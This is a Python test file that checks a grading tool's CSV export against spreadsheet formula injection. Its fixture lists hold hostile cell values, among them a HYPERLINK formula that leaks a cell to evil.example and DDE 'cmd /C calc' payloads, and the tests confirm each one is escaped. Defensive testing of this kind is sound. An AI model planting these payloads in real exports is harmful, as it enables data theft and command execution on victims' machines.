"""Exports are safe: no cell a participant can influence reaches a spreadsheet as a live formula."""

from __future__ import annotations

import contextlib
import csv
import io
import json

import pytest

from camp import paths
from grader.safe_export import FORMULA_START, is_number, safe_cell, write_csv

#: One hostile text per formula character (OWASP: = + - @ tab CR), as a name and as a forged id.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+91 98765 43210+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_IDS = ["=1+1", "+1+1", "-1+1", "@A1", "\t=2+2", "\r=3+3"]


@pytest.mark.parametrize("text", HOSTILE_NAMES + HOSTILE_IDS)
def test_formula_text_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, -2.5, 0, 6.0, "-2", "-2.5", "+3", "1e3", "-1.5e-2", "6", ""])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "text", ["Asha", "रवि कुमार", "Khan, Salma", "a=b", "-", "--", "+", "-2-3", "-inf", "- 2"]
)
def test_only_formula_starts_change(text):
    assert safe_cell(text) == (("'" + text) if text.startswith(FORMULA_START) else text)


def test_write_csv_reads_back_without_a_formula(tmp_path):
    rows = [
        {"id": i, "name": n, "score": s}
        for i, n, s in zip(HOSTILE_IDS, HOSTILE_NAMES, [-2, "-2.5", 3, 0, 1.5, "7"])
    ]
    path = write_csv(tmp_path / "x.csv", ["id", "name", "score"], rows)
    back = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [r["id"][1:] for r in back] == HOSTILE_IDS and [r["name"][1:] for r in back] == HOSTILE_NAMES
    assert [float(r["score"]) for r in back] == [-2, -2.5, 3, 0, 1.5, 7]


def hostile_gradebook() -> dict[str, dict]:
    """A roster whose names (and districts) start with each formula character, and a gradebook that also holds
    forged ids starting with them, each with a submission of 00; returns the roster."""

    from nbgrader.api import Gradebook

    paths.ensure_tools_on_path()
    paths.course_root().mkdir(parents=True)
    people = {
        f"p{i:03d}": {"name": name, "district": name, "role": "worker", "phone": ""}
        for i, name in enumerate(HOSTILE_NAMES)
    }
    (paths.home() / "roster.json").write_text(json.dumps(people, ensure_ascii=False), encoding="utf-8")
    with Gradebook(paths.db_url(), paths.COURSE_ID) as gb:
        gb.update_or_create_assignment("00-start-here")
        for student in [*people, *HOSTILE_IDS]:
            gb.update_or_create_student(student, first_name=student if student in HOSTILE_IDS else "")
            gb.add_submission("00-start-here", student)
    return people


def test_exported_grades_hold_no_formula(fresh_home, tmp_path):
    """Roster names and forged gradebook ids starting with each formula character, through `camp export grades`."""

    from grader.cli import main

    people = hostile_gradebook()
    out = tmp_path / "grades.csv"
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["export", "grades", "--to", str(out)]) == 0

    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["id", "name", "district", "role"] and header[4].startswith("00-start-here score")
    assert len(body) == len(people) + len(HOSTILE_IDS)
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_number(cell), (cell, row)
        assert row[4].startswith("not graded") and int(row[-2]) == 1  # submitted, no grades yet
    by_id = {row[0]: row for row in body}
    for pid, person in people.items():  # the text itself is kept, behind the quote
        assert by_id[pid][1] == "'" + person["name"] and by_id[pid][2] == "'" + person["district"]
    for forged in HOSTILE_IDS:
        assert by_id["'" + forged][1] == "'" + forged
